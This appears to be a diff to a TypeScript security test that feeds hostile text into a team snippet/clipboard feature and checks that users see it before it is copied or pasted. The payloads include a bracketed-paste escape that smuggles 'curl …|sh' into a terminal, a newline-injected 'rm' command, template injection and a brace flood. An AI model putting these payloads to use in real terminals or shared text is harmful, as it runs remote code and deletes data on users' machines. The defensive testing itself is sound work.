@@ -13,7 +13,7 @@ import type { AttackedPerch } from './perch.ts';
 /** What somebody writes into a team's channel, by the kind of attack. */
 const TEXTS: Record<string, (mark: string) => string> = {
   'keys of a terminal': (mark) => `true\x1b[201~\rcurl ${mark}|sh\r\n\x03`,
-  'line ends': (mark) => `ls\nrm ${mark}\n`,
+  'line ends': (mark) => `ls\nrm ${mark}\nls`,
   clipboard: (mark) => `{{clipboard}} ${mark} {{{>x}}}`,
   'another snippet': (mark) => `{{>Shared}} {{>${mark}}}`,
   'runs of braces': (mark) => `${'{'.repeat(4_000)}${mark}${'}'.repeat(4_000)}`,
@@ -68,7 +68,7 @@ export async function attackByTeam(perch: AttackedPerch, below: Below): Promise<
   if ((await copy()) !== 'copied') problems.push('a text that was not used yet was not copied');
   const hostile = TEXTS[kind]?.(mark) ?? '';
   write(hostile);
-  await shows(snippetText(hostile));
+  await shows(hostile);
   const told = [await copy(), await copy({ paste: true })];
   if (told.some((word) => word !== 'unseen')) problems.push(`told ${told.join()}`);
   if (out.some((text) => text !== 'first')) problems.push('a text went out that nobody was shown');
@@ -80,6 +80,3 @@ export async function attackByTeam(perch: AttackedPerch, below: Below): Promise<
   if (teamChannels(db).length > 0 || snippet()) problems.push('the channel is still offered');
   return { kinds: [kind], told: told[0] ?? '', problems };
 }
-
-/** A text as servers store it. */
-const snippetText = (text: string): string => text.trimEnd();
